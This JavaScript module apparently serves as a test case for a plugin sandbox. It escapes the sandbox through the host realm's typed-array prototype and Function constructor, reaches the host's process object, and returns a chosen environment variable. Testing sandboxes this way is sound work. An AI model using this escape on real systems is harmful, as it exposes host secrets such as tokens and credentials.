// The prototype above Buffer's is Uint8Array of the host's realm.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: process is not defined
module.exports = {
  metadata: { name: 'typed-array-prototype', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'typed-array-prototype' } } } },
  run(context) {
    const prototype = Object.getPrototypeOf(Object.getPrototypeOf(Buffer.alloc(1)));
    const take = prototype.constructor.constructor('return process')();
    return { type: 'text', content: take.env[context.page.variable] };
  },
};
